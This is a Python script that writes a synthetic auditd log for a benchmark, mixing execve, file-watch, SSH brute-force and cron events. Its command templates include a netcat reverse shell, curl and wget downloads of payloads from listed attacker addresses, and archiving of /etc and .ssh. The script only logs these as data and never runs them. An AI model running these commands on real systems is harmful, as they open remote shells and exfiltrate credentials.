#!/usr/bin/env python3
"""Writes a deterministic raw auditd log for the audit_events benchmark.

    bench/gen_audit_log.py OUT SIZE_MB [--seed N]      (1 MB = 10^6 bytes; default seed 3)

The lines look like /work/shared/datasets/linux/auditd_log.txt (`log_format = RAW`,
no node= prefix) and the mix is what a busy server logs with execve and file-watch
rules loaded:
  - execve events (~70% of events): SYSCALL syscall=59 with a rule key, EXECVE (argc,
    a0..aN; arguments holding spaces, quotes or non-ASCII bytes hex-encoded the way the
    kernel does it; some with argc > 10), CWD, two PATH records, PROCTITLE (hex when it
    holds NULs or spaces, truncated to 128 bytes like the kernel's);
  - file watches (~14%): SYSCALL openat key="etc_watch" (some denied), CWD, PATH, PROCTITLE;
  - sshd (~14%): brute force from a few addresses (USER_AUTH + USER_LOGIN res=failed),
    successful logins (USER_AUTH, USER_ACCT, CRED_ACQ, LOGIN, USER_START, USER_LOGIN)
    whose session later runs commands and ends (USER_END, CRED_DISP);
  - cron sessions (~2%): USER_ACCT, CRED_ACQ, LOGIN, USER_START, CRED_DISP, USER_END.
About 20% of the multi-record events end with EOE (the shared log has none), and ~1%
have their last record(s) written after the next event's records (interleaving, as
when two CPUs log at once). Timestamps rise by 0-30 ms per event (~15 ms on average,
so 1 GB, ~1M events, spans about four hours); serials rise by one per event.

When done it prints one line of facts the benchmark reads:
    first_epoch=1700000000.000 last_epoch=... events=N records=N bytes=N
The file is written to OUT.tmp and renamed, so an OUT that exists is complete. The same
size and seed always give the same bytes.
"""
import argparse
import os
import random

START_MS = 1700000000_000           # 2023-11-14T22:13:20Z
CHUNK = 8 << 20                     # bytes buffered per write
SUBJ = "subj==unconfined"           # as in the shared log (AppArmor's quirk on that kernel)
UNSET = 4294967295


def needs_hex(b):
    """The kernel's audit_string_contains_control(): hex if any byte is '"', < 0x21 or > 0x7e."""
    return any(c == 0x22 or c < 0x21 or c > 0x7E for c in b)


def enc(s):
    """One untrusted string as auditd writes it: "quoted" or uppercase hex."""
    b = s.encode() if isinstance(s, str) else s
    return b.hex().upper() if needs_hex(b) else '"' + b.decode() + '"'


def proctitle(argv):
    b = b"\0".join(a.encode() for a in argv)[:128]
    return "proctitle=" + enc(b)


# Command templates: (comm, exe, argv, cwd). {n} {m} {ip} are filled per pool entry so
# the values vary; the pool is rendered once, events pick from it.
COMMANDS = [
    ("ls", "/bin/ls", ["ls", "-la", "/var/log/app{n}"], "/home/alice"),
    ("cat", "/bin/cat", ["cat", "/etc/passwd"], "/root"),
    ("id", "/usr/bin/id", ["id"], "/home/alice"),
    ("uname", "/bin/uname", ["uname", "-a"], "/"),
    ("ps", "/bin/ps", ["ps", "aux"], "/root"),
    ("sh", "/bin/dash", ["/bin/sh", "-c", "iptables --version"], "/var/lib/waagent/WALinuxAgent-2.2.37"),
    ("iptables", "/sbin/xtables-multi",
     ["iptables", "-w", "-t", "security", "-L", "OUTPUT", "--zero", "OUTPUT", "-nxv"],
     "/var/lib/waagent/WALinuxAgent-2.2.37"),
    ("curl", "/usr/bin/curl", ["curl", "-s", "-o", "/tmp/.x{n}", "http://{ip}/payload{m}.sh"], "/tmp"),
    ("wget", "/usr/bin/wget", ["wget", "-q", "http://{ip}:8080/update{n}.bin", "-O", "/dev/shm/u"], "/tmp"),
    ("bash", "/bin/bash", ["bash", "-c", "echo 'job {n} done' >> /tmp/jobs.log"], "/home/alice"),
    ("python3", "/usr/bin/python3.6",
     ["python3", "-c", "import os,socket; print(os.getuid(), socket.gethostname())"], "/home/alice"),
    ("awk", "/usr/bin/mawk", ["awk", "{print $1}", "/var/log/auth.log.{m}"], "/root"),
    ("grep", "/bin/grep", ["grep", "-r", "-i", "password", "/etc/app{n}"], "/root"),
    ("nc", "/bin/nc.openbsd", ["nc", "-e", "/bin/sh", "{ip}", "4444"], "/tmp"),
    ("base64", "/usr/bin/base64", ["base64", "-d", "/tmp/.p{n}"], "/tmp"),
    ("tar", "/bin/tar", ["tar", "czf", "/tmp/backup-{n}.tgz", "/etc", "/home/alice/.ssh"], "/root"),
    ("systemctl", "/bin/systemctl", ["systemctl", "status", "ssh.service"], "/"),
    ("sudo", "/usr/bin/sudo", ["sudo", "-u", "www-data", "ls", "/var/www/site{n}"], "/home/alice"),
    ("touch", "/usr/bin/touch", ["touch", "/tmp/résumé-{n}.txt"], "/home/alice/Документы"),
    ("ssh", "/usr/bin/ssh", ["ssh", "-o", "", "-p", "22", "deploy@10.0.{m}.17"], "/home/alice"),
    ("gcc", "/usr/bin/x86_64-linux-gnu-gcc-7",
     ["gcc", "-O2", "-g", "-Wall", "-Wextra", "-I/usr/include/app", "-DNDEBUG", "-DVERSION=\"1.{n}\"",
      "-fPIC", "-c", "src/mod{n}.c", "-o", "obj/mod{n}.o", "-MMD", "-MF", "obj/mod{n}.d"], "/home/alice/src/app"),
    ("find", "/usr/bin/find",
     ["find", "/var/log", "-maxdepth", "3", "-type", "f", "-name", "*.gz", "-mtime", "+{m}", "-print", "-delete"],
     "/"),
    ("rsync", "/usr/bin/rsync",
     ["rsync", "-a", "-v", "-z", "--delete", "--exclude", "*.tmp", "--exclude", "cache/", "-e", "ssh -p 2222",
      "/srv/data{n}/", "backup@192.0.2.{m}:/backups/data{n}/"], "/srv"),
    ("crontab", "/usr/bin/crontab", ["crontab", "-l"], "/root"),
    ("useradd", "/usr/sbin/useradd", ["useradd", "-m", "-s", "/bin/bash", "svc{n}"], "/root"),
    ("chmod", "/bin/chmod", ["chmod", "+x", "/tmp/.x{n}"], "/tmp"),
]
WATCHED = ["/etc/shadow", "/etc/passwd", "/etc/sudoers", "/etc/ssh/sshd_config", "/etc/crontab",
           "/etc/hosts", "/etc/group", "/etc/pam.d/sshd"]
WATCHERS = [("cat", "/bin/cat"), ("vim", "/usr/bin/vim.basic"), ("sshd", "/usr/sbin/sshd"),
            ("cron", "/usr/sbin/cron"), ("python3", "/usr/bin/python3.6"), ("less", "/usr/bin/less")]
EXEC_KEYS = ['"exec"', '"exec"', '"susp_exec"', '"root_cmd"']
ATTACKERS = ["36.156.24.99", "203.0.113.45", "198.51.100.23", "45.227.255.190", "185.220.101.7"]
ATTACK_USERS = ["root", "root", "admin", "oracle", "test", "ubuntu", "postgres", "git"]
LEGIT = [("alice", 1000, "192.0.2.10"), ("bob", 1001, "192.0.2.77"), ("alice", 1000, "10.20.30.40")]


def ptr(r):
    return format(r.randrange(0x5500_0000_0000, 0x7FFF_FFFF_FFFF), "x")


def build_pool(r, n):
    """Renders n command instances to the parts that do not depend on time or process."""
    pool = []
    for _ in range(n):
        comm, exe, argv, cwd = r.choice(COMMANDS)
        subst = {"n": str(r.randrange(1, 999)), "m": str(r.randrange(1, 60)),
                 "ip": r.choice(ATTACKERS + ["192.0.2.99", "10.1.2.3"])}
        argv = [a.replace("{n}", subst["n"]).replace("{m}", subst["m"]).replace("{ip}", subst["ip"]) for a in argv]
        args = " ".join(f"a{i}={enc(a)}" for i, a in enumerate(argv))
        execve = f"argc={len(argv)} {args}"
        ino = r.randrange(100, 4_000_000)
        path0 = (f"item=0 name={enc(exe if r.random() < 0.5 else argv[0])} inode={ino} dev=08:01 mode=0100755 "
                 "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0000000000000000 cap_fi=0000000000000000 "
                 "cap_fe=0 cap_fver=0")
        path1 = ("item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=2075 dev=08:01 mode=0100755 ouid=0 ogid=0 "
                 "rdev=00:00 nametype=NORMAL cap_fp=0000000000000000 cap_fi=0000000000000000 cap_fe=0 cap_fver=0")
        tail = f"comm={enc(comm[:15])} exe={enc(exe)} {SUBJ} key={r.choice(EXEC_KEYS)}"
        args4 = f"a0={ptr(r)} a1={ptr(r)} a2={ptr(r)} a3={format(r.randrange(0, 64), 'x')}"
        pool.append((args4, tail, execve, f"cwd={enc(cwd)}", path0, path1, proctitle(argv)))
    return pool


def build_watch_pool(r, n):
    pool = []
    for _ in range(n):
        comm, exe = r.choice(WATCHERS)
        name = r.choice(WATCHED)
        ok = r.random() < 0.8
        args4 = f"a0=ffffff9c a1={ptr(r)} a2={r.choice(['0', '80000', '241'])} a3=0"
        res = "success=yes exit=3" if ok else "success=no exit=-13"
        path = (f"item=0 name={enc(name)} inode={r.randrange(100, 400000)} dev=08:01 mode=0100640 ouid=0 ogid=42 "
                "rdev=00:00 nametype=NORMAL cap_fp=0000000000000000 cap_fi=0000000000000000 cap_fe=0 cap_fver=0")
        tail = f"comm={enc(comm)} exe={enc(exe)} {SUBJ} key=\"etc_watch\""
        argv = [comm, name] if comm != "sshd" else ["/usr/sbin/sshd", "-D"]
        pool.append((args4, res, tail, f"cwd={enc(r.choice(['/', '/root', '/home/alice']))}", path, proctitle(argv)))
    return pool


class Log:
    """Accumulates lines, counts events and records, flushes in CHUNK-sized writes."""

    def __init__(self, f):
        self.f, self.buf, self.size, self.written = f, [], 0, 0
        self.events = self.records = 0
        self.ms, self.serial = START_MS, 1000
        self.first = self.last = None

    def stamp(self, r):
        """The next event's msg=audit(...) header: time moves 0-30 ms, serial by one."""
        self.ms += r.randrange(0, 31)
        self.serial += 1
        self.events += 1
        if self.first is None:
            self.first = self.ms
        self.last = self.ms
        return f"msg=audit({self.ms // 1000}.{self.ms % 1000:03d}:{self.serial}): "

    def put(self, lines):
        s = "".join(lines)
        self.buf.append(s)
        self.size += len(s)
        self.records += len(lines)
        if self.size >= CHUNK:
            self.flush()

    def flush(self):
        data = "".join(self.buf).encode()
        self.f.write(data)
        self.written += len(data)
        self.buf, self.size = [], 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out")
    ap.add_argument("size_mb", type=float)
    ap.add_argument("--seed", type=int, default=3)
    a = ap.parse_args()
    r = random.Random(a.seed)
    pool = build_pool(r, 4000)
    watch = build_watch_pool(r, 1000)
    target = int(a.size_mb * 1_000_000)
    tmp = a.out + ".tmp"
    with open(tmp, "wb") as f:
        log = Log(f)
        late = None            # the held-back tail of an interleaved event
        sessions = []          # open ssh sessions: (acct, uid, addr, ses, pid, tty)
        next_ses, next_pid = 300, 20000

        def emit(lines, can_interleave):
            nonlocal late
            held, late = late, None
            if can_interleave and held is None and r.random() < 0.01:
                k = 2 if lines[-1].startswith("type=EOE") else 1
                late = lines[-k:]
                lines = lines[:-k]
            log.put(lines)
            if held:
                log.put(held)

        def user(typ, pid, uid, auid, ses, msg):
            h = log.stamp(r)
            return [f"type={typ} {h}pid={pid} uid={uid} auid={auid} ses={ses} {SUBJ} msg='{msg}'\n"]

        while log.written + log.size < target:
            next_pid = next_pid + r.randrange(1, 7) if next_pid < 4_000_000 else 20000
            kind = r.random()
            if kind < 0.70:                                        # execve
                args4, tail, execve, cwd, path0, path1, ptitle = r.choice(pool)
                if sessions and r.random() < 0.5:
                    acct, uid, addr, ses, spid, tty = r.choice(sessions)
                    ids = (f"ppid={spid + 1} pid={next_pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} "
                           f"fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses}")
                else:
                    ids = (f"ppid={r.randrange(1, 3000)} pid={next_pid} auid={UNSET} uid=0 gid=0 euid=0 suid=0 "
                           f"fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses={UNSET}")
                h = log.stamp(r)
                lines = [f"type=SYSCALL {h}arch=c000003e syscall=59 success=yes exit=0 {args4} items=2 {ids} {tail}\n",
                         f"type=EXECVE {h}{execve}\n", f"type=CWD {h}{cwd}\n",
                         f"type=PATH {h}{path0}\n", f"type=PATH {h}{path1}\n", f"type=PROCTITLE {h}{ptitle}\n"]
                if r.random() < 0.2:
                    lines.append(f"type=EOE {h}\n")
                emit(lines, True)
            elif kind < 0.84:                                      # file watch
                args4, res, tail, cwd, path, ptitle = r.choice(watch)
                h = log.stamp(r)
                lines = [f"type=SYSCALL {h}arch=c000003e syscall=257 {res} {args4} items=1 ppid={r.randrange(1, 3000)} "
                         f"pid={next_pid} auid={UNSET} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
                         f"tty=(none) ses={UNSET} {tail}\n",
                         f"type=CWD {h}{cwd}\n", f"type=PATH {h}{path}\n", f"type=PROCTITLE {h}{ptitle}\n"]
                if r.random() < 0.2:
                    lines.append(f"type=EOE {h}\n")
                emit(lines, True)
            elif kind < 0.975:                                     # brute force attempt
                addr = r.choice(ATTACKERS)
                acct = r.choice(ATTACK_USERS)
                emit(user("USER_AUTH", next_pid, 0, UNSET, UNSET,
                          f'op=PAM:authentication acct="{acct}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} '
                          "terminal=ssh res=failed"), False)
                emit(user("USER_LOGIN", next_pid, 0, UNSET, UNSET,
                          f'op=login acct="{acct}" exe="/usr/sbin/sshd" hostname=? addr={addr} terminal=sshd '
                          "res=failed"), False)
            elif kind < 0.98 or (kind < 0.985 and not sessions):  # successful ssh login
                acct, uid, addr = r.choice(LEGIT)
                ses, tty = next_ses, f"pts{next_ses % 8}"
                next_ses += 1
                ssh = f'acct="{acct}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh res=success'
                for typ, op, a_uid, a_ses in (("USER_AUTH", "PAM:authentication", UNSET, UNSET),
                                              ("USER_ACCT", "PAM:accounting", UNSET, UNSET),
                                              ("CRED_ACQ", "PAM:setcred", UNSET, UNSET)):
                    emit(user(typ, next_pid, 0, a_uid, a_ses, f"op={op} {ssh}"), False)
                h = log.stamp(r)
                emit([f"type=LOGIN {h}pid={next_pid} uid=0 {SUBJ} old-auid={UNSET} auid={uid} tty=(none) "
                      f"old-ses={UNSET} ses={ses} res=1\n"], False)
                emit(user("USER_START", next_pid, 0, uid, ses, f"op=PAM:session_open {ssh}"), False)
                emit(user("USER_LOGIN", next_pid, 0, uid, ses,
                          f'op=login id={uid} exe="/usr/sbin/sshd" hostname={addr} addr={addr} '
                          f"terminal=/dev/{tty.replace('pts', 'pts/')} res=success"), False)
                sessions.append((acct, uid, addr, ses, next_pid, tty))
            elif kind < 0.985:                                     # an ssh session ends
                acct, uid, addr, ses, spid, tty = sessions.pop(r.randrange(len(sessions)))
                ssh = f'acct="{acct}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh res=success'
                emit(user("USER_END", spid, 0, uid, ses, f"op=PAM:session_close {ssh}"), False)
                emit(user("CRED_DISP", spid, 0, uid, ses, f"op=PAM:setcred {ssh}"), False)
            else:                                                  # a cron session
                ses = next_ses
                next_ses += 1
                cron = 'acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success'
                emit(user("USER_ACCT", next_pid, 0, UNSET, UNSET, f"op=PAM:accounting {cron}"), False)
                emit(user("CRED_ACQ", next_pid, 0, UNSET, UNSET, f"op=PAM:setcred {cron}"), False)
                h = log.stamp(r)
                emit([f"type=LOGIN {h}pid={next_pid} uid=0 {SUBJ} old-auid={UNSET} auid=0 tty=(none) "
                      f"old-ses={UNSET} ses={ses} res=1\n"], False)
                emit(user("USER_START", next_pid, 0, 0, ses, f"op=PAM:session_open {cron}"), False)
                emit(user("CRED_DISP", next_pid, 0, 0, ses, f"op=PAM:setcred {cron}"), False)
                emit(user("USER_END", next_pid, 0, 0, ses, f"op=PAM:session_close {cron}"), False)
        if late:
            log.put(late)
        log.flush()
    os.replace(tmp, a.out)
    print(f"first_epoch={log.first // 1000}.{log.first % 1000:03d} last_epoch={log.last // 1000}.{log.last % 1000:03d} "
          f"events={log.events} records={log.records} bytes={log.written}")


if __name__ == "__main__":
    main()
